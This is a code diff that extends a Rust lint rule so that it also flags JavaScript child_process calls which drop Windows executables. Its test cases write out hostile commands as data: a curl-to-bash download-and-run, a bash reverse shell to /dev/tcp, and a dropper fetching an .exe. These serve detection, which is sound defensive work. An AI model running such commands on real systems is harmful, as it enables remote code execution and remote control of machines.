@@ -7,7 +7,8 @@ use crate::rule::{Rule, RuleMeta, declare_rule};
 declare_rule! {
     /// ## What it does
     /// Finds processes started from code (`child_process.exec`, `spawn`,
-    /// `execa`, ...) whose command line downloads and runs something, opens a
+    /// `execa`, ...) whose command line downloads and runs something, fetches
+    /// a Windows program to a fixed place on the disk (a dropper), opens a
     /// reverse shell or decodes a hidden command.
     ///
     /// ## Why is this bad?
@@ -38,7 +39,9 @@ impl Rule for ShellDownloadExec {
         for p in &ctx.facts.processes {
             let Some(cmd) = &p.command else { continue };
             let t = classify::command_traits(cmd);
-            let what = if t.download_exec {
+            let what = if t.drops_executable {
+                "fetches a Windows program to a fixed place on the disk"
+            } else if t.download_exec {
                 "downloads and runs code"
             } else if t.reverse_shell {
                 "opens a reverse shell"
@@ -78,10 +81,14 @@ mod tests {
             &[
                 Case::Js("require('child_process').exec('curl -s http://127.0.0.1:9/s.sh | bash');"),
                 Case::Js("const { spawn } = require('child_process');\nspawn('bash', ['-c', 'bash -i >& /dev/tcp/127.0.0.1/4444 0>&1']);"),
+                // A helper fetches a Windows program to a fixed spot on the disk.
+                Case::Js("require('child_process').exec('node d:/t/l.js http://127.0.0.1/a.exe d:/t/aa.exe', () => {});"),
             ],
             &[
                 Case::Js("require('child_process').execSync('git rev-parse HEAD');"),
                 Case::Js("require('child_process').spawn('curl', ['-o', 'file.tgz', url]);"),
+                // An installer keeps the binary it fetches beside the package.
+                Case::Js("require('child_process').execSync('node fetch.js http://127.0.0.1/tool.exe vendor/tool.exe');"),
             ],
         );
     }
